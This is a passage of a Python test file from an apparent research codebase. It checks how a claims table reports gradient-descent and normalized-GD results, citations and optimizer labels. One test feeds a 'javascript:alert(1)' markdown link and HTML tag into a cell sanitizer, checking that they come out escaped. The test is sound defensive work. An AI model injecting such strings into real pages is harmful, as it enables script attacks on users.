    # falls from 0.4 (t = 0) to about 0.24 near t = 30, then rises to 0.999
    dip = lambda t: 0.999 * (1 - math.exp(-t / 300)) + 0.4 * math.exp(-t / 30)  # noqa: E731
    rows = rows_of(
        bad_init_2d(dip),
        {"gd": {"rule": "gd"}, "ngd": {"rule": "ngd"}},
        kind="bad_init_2d",
        T_tokens=2,
    )
    rows = [r for r in rows if r.statement == "global-2d"]  # Thm. 6 reads the run too
    assert len(rows) == 4 and all(r.holds for r in rows), [r.quantity for r in rows]
    assert 0.2 < row(rows, "gd sample 1 dips").mean < 0.3
    # a softmax that only rises has no dip: the first claim fails, the convergence one holds
    rise = lambda t: 0.999 - 0.6 / (t + 1)  # noqa: E731
    rows = rows_of(bad_init_2d(rise), {"gd": {"rule": "gd"}}, kind="bad_init_2d", T_tokens=2)
    assert [r.holds for r in rows if r.statement == "global-2d"] == [False, True]


def test_study_rows_hold_only_where_every_small_start_reaches():
    runs = pd.DataFrame(
        {
            "setting": ["plain"] * 6 + ["spread"] * 6,
            "optimizer": (["ngd"] * 3 + ["gd"] * 3) * 2,
            "scale": [1, 1, 100] * 4,
            "reached": [True, True, False, False, True, False] + [True] * 3 + [False] * 3,
        }
    )
    good = {"setting": "plain", "ass1_rho": 0.2, "ass1_holds": True, "ass2_spread": 0.0,
            "ass2_opt_gap": 1.0, "ass2_holds": True}  # fmt: skip
    broken = dict(good, setting="spread", ass2_spread=0.5, ass2_holds=False)
    table = global_convergence.study_claims(
        runs, pd.DataFrame([good, broken]), {"threshold": 0.01, "iterations": 3000}
    )
    verdicts = dict(zip(table["experiment"] + " " + table["key"], table["verdict"], strict=True))
    assert verdicts["plain plain study ngd global"] == "holds"  # the scale-100 miss is not asked
    assert verdicts["plain plain study gd global"] == "does not hold"  # one small start missed
    assert verdicts["spread spread study ngd global"] == "holds (outside hypotheses: Ass. 2 broken)"
    assert table.loc[0, "mean"] == 1.0 and "over every scale: 0.67" in table.loc[0, "quantity"]


def test_a_table_cites_the_configured_figure_and_the_legends_labels():
    table = fixed_table(gd=gd_like(), ngd=ngd_like())
    optimizers = {"gd": {"rule": "gd", "lr": 1.0}, "ngd": {"rule": "ngd", "lr": 0.1}}
    experiment = {"layout": "fixed_decoder", "optimizers": optimizers, "seeds": 2,
                  "labels": {"gd": "plain GD", "ngd": "normalized GD"}}  # fmt: skip

    def table_of(**extra):
        out = layouts.claims({"fig2": {**experiment, **extra}}, {"fig2": table},
                            {"fig2": [2.0, 2.0]}, {"fig2": 3}, {"fig2": GOOD})  # fmt: skip
        return out.set_index("key")

    cited = table_of(paper_figure="Fig. 2")
    ahead = cited.loc["fig2 ahead of gd ngd"]
    assert ahead["source"] == "Sec. 3.2, Fig. 2"
    assert ahead["claim"].startswith("normalized GD: ")
    assert "normalized GD's and plain GD's" in ahead["quantity"]
    assert "normalized GD" in ahead["value_text"] and "plain GD" in ahead["value_text"]
    measured = cited[cited["kind"] != "not measured"]
    assert not measured["claim"].str.contains(r"\bngd\b").any()  # no config name is shown
    uncited = table_of()  # a name like fig2 makes no experiment Fig. 2's: no remark rows
    assert "fig2 ahead of gd ngd" not in uncited.index


def test_a_rule_no_result_is_proved_for_is_a_comparison_everywhere():
    """A rule added to optim/rules/ is its own algorithm, covered by no result (a row on it
    reads 'comparison'); the rules of the paper keep their names."""
    from attnbias.claims.statements import STATEMENTS
    from attnbias.optim import algorithm as optim_algorithm

    new = optim_algorithm.algorithm({"rule": "loss-ngd"}, "single")
    assert new == "loss-ngd"
    proved = {a for s in STATEMENTS for a in (s.covers or ())}
    assert new not in proved
    # control: the paper's rules are recognised, by their settings
    assert optim_algorithm.algorithm({"rule": "ngd"}, "single") == "ngd"
    assert optim_algorithm.algorithm({"rule": "ngd", "max_step": 1e3}, "single") == "ngd-capped"
    assert optim_algorithm.algorithm({"rule": "polyak"}, "single") == "ps"
    assert (
        optim_algorithm.algorithm({"rule": "ngd", "decay_W": 1.0, "decay_u": 0.5}, "joint")
        == "eq10"
    )


def test_a_rule_no_result_is_proved_for_gets_comparison_rows():
    """A rule of optim/rules/ that claims nothing (here sign descent, as the page's own
    loss-ngd example) gets rows that read "comparison" (not a KeyError on its
    name); GD's rows are unchanged by it."""
    opts = {"gd": {"rule": "gd"}, "sign": {"rule": "sign", "lr": 0.1}}
    rows = rows_of(fixed_table(gd=gd_like(), sign=ngd_like()), opts, figure="Fig. 2")
    on_sign = [r for r in rows if " sign" in r.key or r.key.endswith("sign")]
    assert on_sign and all(r.category == "comparison" for r in on_sign)
    assert any(
        "sign descent against GD off Sec. 3.3's two-token example" in r.verdict for r in on_sign
    )


def test_a_markdown_link_in_a_label_stays_text():
    from attnbias.claims.write import markdown_cell

    cell = markdown_cell("GD [x](javascript:alert(1)) | <b>")
    assert "](" not in cell.replace("\\](", "")  # no unescaped link syntax left
    assert cell == "GD [x\\](javascript:alert(1)) \\| \\<b>"


def test_the_header_says_what_optional_targets_add_and_the_default_builds_counts():
    """Rows of an optional target (here "extra", run on the two-token example: statements
    no default experiment measures) are named in the header, with the summary the default
    build alone gives: the same as a build without them."""
    fixed = {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2, "paper_figure": None}
    two_token = dict(fixed, layout="two_token")

    def build(names):
        experiments = {"x": fixed, "extra": two_token}
        tables = {"x": fixed_table(gd=gd_like(), ngd=ngd_like()),
                  "extra": fixed_table(gd=gd_like(), ngd=ngd_like(-1.5))}  # fmt: skip
        return layouts.claims(
            {n: experiments[n] for n in names}, {n: tables[n] for n in names},
            {n: [2.0, 2.0] for n in names}, {n: 3 for n in names}, {n: GOOD for n in names},
        )  # fmt: skip

    both, default = build(["x", "extra"]), build(["x"])
    added = int((both["key"].str.startswith("extra ")).sum())
    line = write.optional_line(both, ["extra"])
    assert f"extra ({added} rows)" in line
    assert line.endswith(write.summary_line(default))
    assert write.summary_line(default) != write.summary_line(both)
    assert write.optional_line(default, ["extra"]) == ""  # nothing added: nothing said
    assert line.replace("`", "") in write.to_markdown(both, optional=["extra"]).replace(
        "\\", ""
    ).replace("`", "")
